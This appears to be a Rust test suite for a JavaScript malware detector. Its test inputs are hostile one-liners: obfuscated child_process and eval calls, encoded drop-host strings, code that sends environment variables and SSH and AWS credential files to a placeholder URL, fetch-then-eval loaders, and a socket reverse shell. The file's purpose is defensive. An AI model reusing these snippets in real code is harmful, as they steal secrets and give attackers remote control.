use super::*;
use Signal::*;

/// What the script shows once its data is followed.
fn seen(code: &str) -> Vec<Signal> {
    let file = SourceFile { path: "index.js", bytes: code.as_bytes(), executable: false };
    read(&[&file], None).concat().into_iter().map(|hit| hit.signal).collect()
}

#[track_caller]
fn shows(code: &str, signal: Signal) {
    assert!(seen(code).contains(&signal), "{signal:?} is not among {:?} of {code}", seen(code));
}

#[track_caller]
fn hides(code: &str, signal: Signal) {
    assert!(!seen(code).contains(&signal), "{signal:?} is among {:?} of {code}", seen(code));
}

#[test]
fn aliases_of_what_runs_programs_are_followed() {
    for code in [
        "const { exec: run } = require('child_process'); run(x)",
        "const cp = require('node:child_process'), f = cp.spawn; f('sh')",
        "import * as cp from 'child_process'; cp.execFileSync(x)",
        "import { exec } from 'node:child_process'; const go = exec; go('ls')",
        "var r = require; var m = 'child_' + 'process'; r(m).exec('ls')",
        "module.constructor._load('child_process').exec('ls')",
        "process.mainModule.require('child_process')['ex' + 'ec']('ls')",
        "process.binding('spawn_sync').spawn({ file: 'sh' })",
        "require('child_process').exec.call(null, 'ls')",
        "require('child_process').spawn.bind(null, 'ls')()",
        "Reflect.get(require('child_process'), 'spawn')('ls')",
        "Object.getOwnPropertyDescriptor(require('child_process'), 'spawn').value('ls')",
        "(0, require('child_process').exec)('ls')",
        "const util = require('util'); util.promisify(require('child_process').exec)('ls')",
        "let cp; try { cp = require('child_process') } catch (e) {} cp && cp.execSync('ls')",
        "globalThis.process.mainModule.require('child_process').exec('ls')",
        "import('child_process').then(async m => { (await import('child_process')).exec('ls') })",
        "class A { run() { this.cp = require('child_process'); this.cp.exec('ls') } }",
        "const p = require('child_process'); p[Object.keys(p).find(n => n === 'spawn')]('ls')",
    ] {
        shows(code, Spawn);
    }
    hides("const exec = /x/.exec; exec('y'); pattern.exec('z')", Spawn);
    hides("const exec = require('./exec'); exec('y')", Spawn);
}

#[test]
fn aliases_of_eval_are_followed() {
    for code in [
        "const e = eval; e(x)",
        "window['ev' + 'al'](x)",
        "(0, eval)(x)",
        "const F = Function; new F('return this')()",
        "(function () {}).constructor('return process')()",
        "[].constructor.constructor('return this')()",
        "''['constructor']['constructor']('alert(1)')()",
        "require('vm').runInThisContext(x)",
        "new module.constructor()._compile(x, 'y')",
        "setTimeout('run()', 10)",
    ] {
        shows(code, Eval);
    }
    hides("setTimeout(() => run(), 10); const evaluate = x => x; evaluate('y')", Eval);
}

#[test]
fn text_is_read_as_what_it_becomes() {
    for code in [
        "x(['web', 'hook', '.site'].join(''))",
        "x('etis.koohbew'.split('').reverse().join(''))",
        "x(String.fromCharCode(119,101,98,104,111,111,107,46,115,105,116,101))",
        "x([119,101,98,104,111,111,107,46,115,105,116,101].map(c => String.fromCharCode(c)).join(''))",
        "x([118,100,99,105,110,110,106,47,114,104,117,100].map(c => c ^ 1).map(c => String.fromCharCode(c)).join(''))",
        "x(Buffer.from('d2ViaG9vay5zaXRl', 'base64').toString())",
        "x(Buffer.from('776562686f6f6b2e73697465', 'hex').toString('utf8'))",
        "const a = 'webhook', b = '.site'; x(`https://${a}${b}/y`)",
        "x(atob('d2ViaG9v' + 'ay5zaXRl'))",
        "x('web%68ook.site'.replace('%68', 'h'))",
        "x('webXhookX.site'.split('X').join(''))",
        "const parts = { a: 'webhook', b: '.site' }; x(parts.a + parts['b'])",
    ] {
        shows(code, DropHost);
    }
}

#[test]
fn decoders_are_run() {
    // A loop with a repeating key: each byte of "webhook.site" xor "ab".
    shows(
        "function un(h, k) { let o = ''; for (let i = 0; i < h.length; i += 2) { \
           o += String.fromCharCode(parseInt(h.substr(i, 2), 16) ^ k.charCodeAt((i / 2) % k.length)) } return o } \
         x(un('1607030a 0e0d0a4c 120b1507'.split(' ').join(''), 'ab'))",
        DropHost,
    );
    // A table that is turned before it is used, and a decoder that replaces itself.
    shows(
        "function _0x1a() { const t = ['site', '3xyz', 'hook.', 'web', '10abc']; _0x1a = function () { return t }; return _0x1a() } \
         (function (f, n) { const t = f(); while (!![]) { try { \
           const v = parseInt(_0x2b(0x100)) / 1 + parseInt(_0x2b(0x102)) / 1; if (v === n) break; else t['push'](t['shift']()) \
         } catch (e) { t['push'](t['shift']()) } } })(_0x1a, 0xd); \
         function _0x2b(i, k) { const t = _0x1a(); _0x2b = function (i, k) { i = i - 0x100; let v = t[i]; return v }; return _0x2b(i, k) } \
         const d = _0x2b; x(d(0x104) + d(0x103) + d(0x101))",
        DropHost,
    );
}

#[test]
fn data_is_followed_from_where_it_is_read_to_where_it_leaves() {
    for (code, signal) in [
        (
            "fetch('https://a.example', { method: 'POST', body: JSON.stringify(process.env) })",
            SendsEnvironment,
        ),
        ("const e = { ...process.env }; require('axios').post(u, { e })", SendsEnvironment),
        (
            "const fs = require('fs'); const k = fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa'); fetch(u, { body: k })",
            SendsSecret,
        ),
        (
            "const out = []; for (const f of ['.ssh/id_rsa', '.aws/credentials']) { out.push(fs.readFileSync(path.join(h, f))) } \
             const fs = require('fs'); const r = require('https').request(o, () => {}); r.write(JSON.stringify(out)); r.end()",
            SendsSecret,
        ),
        (
            "const os = require('os'); const d = { h: os.hostname() }; require('http').get('http://x/?' + d.h)",
            SendsIdentity,
        ),
        (
            "require('child_process').exec('cat ~/.ssh/id_rsa', (e, out) => { fetch(u, { method: 'POST', body: out }) })",
            SendsSecret,
        ),
        (
            "function send(b) { fetch(u, { body: b }) } function all() { return process.env } send(all())",
            SendsEnvironment,
        ),
        (
            "const or = (v, d) => typeof v === 'undefined' ? d : v; const path = or(o.path, '/'); \
             fetch(u, { body: or(o.env, process.env) })",
            SendsEnvironment,
        ),
        (
            "const or = (v, d) => typeof v === 'undefined' ? d : v; fetch(u, { body: or(...[o.env, process.env]) })",
            SendsEnvironment,
        ),
        ("require('net').connect(1, h).write(JSON.stringify(process.env))", SendsEnvironment),
        ("fetch(u).then(r => r.text()).then(t => eval(t))", RunsFetched),
        (
            "require('https').get(u, res => { let d = ''; res.on('data', c => d += c); res.on('end', () => { new Function(d)() }) })",
            RunsFetched,
        ),
        ("(async () => { const r = await require('axios').get(u); eval(r.data) })()", RunsFetched),
        (
            "const s = net.connect(1, h); const net = require('net'); const sh = require('child_process').spawn('sh'); s.pipe(sh.stdin)",
            ReverseShell,
        ),
        ("eval(Buffer.from(blob, 'base64').toString())", RunsDecoded),
        ("require('dns').resolve(require('os').hostname() + '.x.example', () => {})", SendsIdentity),
        ("fetch('http://45.33.32.156/x')", ContactsAddress),
        ("require('fs').unlinkSync(__filename)", SelfDelete),
        ("require('fs').unlinkSync(require('path').resolve('.', __filename))", SelfDelete),
    ] {
        shows(code, signal);
    }
    for (code, signal) in [
        ("const c = { env: process.env, url: 'https://a.example' }; fetch(c.url)", SendsEnvironment),
        ("fetch(process.env.SERVICE_URL, { body: x })", SendsEnvironment),
        ("if (Object.keys(process.env).length) fetch('https://a.example')", SendsEnvironment),
        (
            "const p = require('path'); require('fs').unlinkSync(p.join(p.dirname(__filename), 'bin', 'x'))",
            SelfDelete,
        ),
        (
            "require('child_process').spawn('ls', [], { env: process.env }); fetch('https://a.example')",
            SendsEnvironment,
        ),
        ("const d = fetch(u).then(r => r.json()); console.log(d); eval('1 + 1')", RunsFetched),
        (
            "const or = (v, d) => typeof v === 'undefined' ? d : v; const env = or(o.env, process.env); \
             require('http').get({ path: or(o.path, '/') })",
            SendsEnvironment,
        ),
        ("require('net').connect(process.env, 'localhost')", SendsEnvironment),
        (
            "(async () => { const b = await (await fetch(u)).arrayBuffer(); const { instance } = await WebAssembly.instantiate(b); \
             new Function('a', 'return a' + instance.exports.count())(1) })()",
            RunsFetched,
        ),
    ] {
        hides(code, signal);
    }
}

#[test]
fn code_in_text_is_read_again() {
    shows("eval(\"require('child_pro' + 'cess').exec('ls')\")", Spawn);
    // base64 of: fetch('https://webhook.site/x')
    shows("eval(atob('ZmV0Y2goJ2h0dHBzOi8vd2ViaG9vay5zaXRlL3gnKQ=='))", DropHost);
}

#[test]
fn hostile_shapes_cost_nothing() {
    for code in
        ["(".repeat(100_000), "'a'+".repeat(50_000), "[".repeat(5), "a=>".repeat(20_000), "x".repeat(1 << 20)]
    {
        seen(&code);
    }
    let nested = format!("{}1{}", "(".repeat(1000), ")".repeat(1000));
    seen(&nested);
    let chain = format!("x = {}'a'", "'a' + ".repeat(1400));
    seen(&chain);
    let methods = format!("x{}", ".then(f)".repeat(400));
    seen(&methods);
    seen("function last(node) { while (node.next) node = node.next; return node } eval(last(window) + '')");
    let long = "x".repeat(900_000);
    seen(&format!(
        "function d(t) {{ var o = 0; for (var i = 0; i < t.length; i++) o += t[i].length + t.charCodeAt(i); return '' + o }} eval(d('{long}'))"
    ));
}

#[test]
fn decoders_that_read_past_the_end_are_run() {
    // What packers make of base64: another alphabet, and a loop that ends where nothing is left to read.
    let decoder = "function d(t) { var a = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=', o = '', p = '';
        for (var n = 0, s, c, i = 0; c = t['charAt'](i++); ~c && (s = n % 4 ? s * 64 + c : c, n++ % 4) ? o += String['fromCharCode'](255 & s >> (-2 * n & 6)) : 0) { c = a['indexOf'](c); }
        for (var k = 0; k < o['length']; k++) { p += '%' + ('00' + o['charCodeAt'](k)['toString'](16))['slice'](-2); }
        return decodeURIComponent(p); }";
    // In that alphabet: child_process
    shows(&format!("{decoder} require(d('y2HPBgrFChjVy2vZCW'))['exec']('ls')"), Spawn);
}
